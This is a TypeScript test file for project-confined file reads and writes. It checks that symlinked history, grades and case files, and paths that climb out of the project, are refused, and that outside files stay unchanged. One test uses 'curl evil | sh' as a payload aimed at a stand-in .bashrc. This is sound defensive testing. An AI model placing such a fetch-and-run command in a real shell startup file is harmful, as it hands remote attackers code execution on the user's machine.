import assert from 'node:assert/strict';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { confinedPath, UnsafePathError } from '../../../src/core/project/confinedPath';
import { readProjectFile } from '../../../src/core/project/safeRead';
import { appendProjectFile, createProjectFile, replaceProjectFile } from '../../../src/core/project/safeWrite';

/** A project folder and, beside it, an "outside" folder holding a file that stands for ~/.bashrc. */
function setup(dirs: string[]): { project: string; outside: string; bashrc: string } {
  const base = mkdtempSync(join(tmpdir(), 'clinalign-safe-write-'));
  dirs.push(base);
  const project = join(base, 'project');
  const outside = join(base, 'home');
  mkdirSync(project);
  mkdirSync(outside);
  const bashrc = join(outside, '.bashrc');
  writeFileSync(bashrc, 'export PATH=/usr/bin\n');
  return { project, outside, bashrc };
}

const refusal = (path: string) => (error: unknown) => error instanceof UnsafePathError && error.message.includes(path);

describe('safe writes inside a project', () => {
  const dirs: string[] = [];
  after(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

  it('appends to a history file, creating .clinalign/history', async () => {
    const { project } = setup(dirs);
    const file = join(project, '.clinalign', 'history', 'a.jsonl');
    await appendProjectFile(project, file, 'one\n');
    await appendProjectFile(project, file, 'two\n');
    assert.equal(readFileSync(file, 'utf8'), 'one\ntwo\n');
    assert.equal(await readProjectFile(project, file), 'one\ntwo\n');
    assert.equal(await readProjectFile(project, join(project, '.clinalign', 'history', 'missing.jsonl')), undefined);
  });

  it('refuses a history file that is a symbolic link out of the project; the outside file is unchanged', async () => {
    const { project, bashrc } = setup(dirs);
    const before = readFileSync(bashrc);
    mkdirSync(join(project, '.clinalign', 'history'), { recursive: true });
    const link = join(project, '.clinalign', 'history', 'a.jsonl');
    symlinkSync(bashrc, link);
    await assert.rejects(appendProjectFile(project, link, 'curl evil | sh\n'), refusal(link));
    await assert.rejects(readProjectFile(project, link), refusal(link));
    assert.deepEqual(readFileSync(bashrc), before);
  });

  it('refuses a symbolic-linked .clinalign folder and a symbolic-linked history folder', async () => {
    const { project, outside } = setup(dirs);
    symlinkSync(outside, join(project, '.clinalign'));
    const file = join(project, '.clinalign', 'history', 'a.jsonl');
    await assert.rejects(appendProjectFile(project, file, 'x\n'), refusal(join(project, '.clinalign')));
    assert.deepEqual(readdirSync(outside), ['.bashrc'], 'nothing created outside');

    const second = setup(dirs);
    mkdirSync(join(second.project, '.clinalign'));
    symlinkSync(second.outside, join(second.project, '.clinalign', 'grades'));
    const grades = join(second.project, '.clinalign', 'grades', 'a.jsonl');
    await assert.rejects(
      appendProjectFile(second.project, grades, 'x\n'),
      refusal(join(second.project, '.clinalign', 'grades')),
    );
    assert.deepEqual(readdirSync(second.outside), ['.bashrc']);
  });

  it('refuses a path that leaves the project, naming it', () => {
    const { project, outside } = setup(dirs);
    assert.throws(
      () => confinedPath(project, join(project, '.clinalign', 'history', '..', '..', '..', 'home', 'x.jsonl')),
      (error: unknown) =>
        error instanceof UnsafePathError &&
        /outside the project folder/.test((error as Error).message) &&
        (error as Error).message.includes(join(outside, 'x.jsonl')),
    );
    assert.throws(() => confinedPath(project, project), UnsafePathError);
  });

  it('never writes through a symbolic-linked case file; replacing a real case keeps the rest of the folder', async () => {
    const { project, outside } = setup(dirs);
    const elsewhere = join(outside, 'other.case.md');
    writeFileSync(elsewhere, 'someone else’s case\n');
    const link = join(project, 'a.case.md');
    symlinkSync(elsewhere, link);
    await assert.rejects(replaceProjectFile(project, link, 'overwritten\n'), refusal(link));
    await assert.rejects(createProjectFile(project, link, 'overwritten\n'), refusal(link));
    assert.equal(readFileSync(elsewhere, 'utf8'), 'someone else’s case\n');

    const real = join(project, 'b.case.md');
    writeFileSync(real, 'draft\n', { mode: 0o640 });
    await replaceProjectFile(project, real, 'revised\n');
    assert.equal(readFileSync(real, 'utf8'), 'revised\n');
    assert.equal(statSync(real).mode & 0o777, 0o640, 'the case keeps its permissions');
    assert.deepEqual(readdirSync(project).sort(), ['a.case.md', 'b.case.md'], 'no temporary file left behind');
    assert.equal(await createProjectFile(project, real, 'new\n'), false);
    assert.equal(await createProjectFile(project, join(project, 'c.case.md'), 'new\n'), true);
    assert.ok(existsSync(join(project, 'c.case.md')));
  });
});
